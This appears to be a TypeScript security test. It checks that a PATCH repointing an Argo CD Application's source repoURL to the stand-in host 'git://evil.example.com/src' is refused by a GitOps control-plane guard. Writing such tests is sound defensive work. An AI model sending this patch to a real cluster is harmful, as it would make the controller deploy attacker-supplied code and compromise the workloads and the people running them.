/** The controller would apply another repository. */
import { attack } from '../support/attack/attack.ts';

attack('point an application at another repository', {
  attempt: ({ request, namespace }) =>
    request(`/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/${namespace}`, {
      method: 'PATCH',
      body: { spec: { source: { repoURL: 'git://evil.example.com/src' } } },
    }),
  alsoWatched: ({ namespace }) => [
    `/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/${namespace}`,
  ],
  code: 'gitops_control_plane_changed',
  refusedBy: 'gitops_control_plane',
});
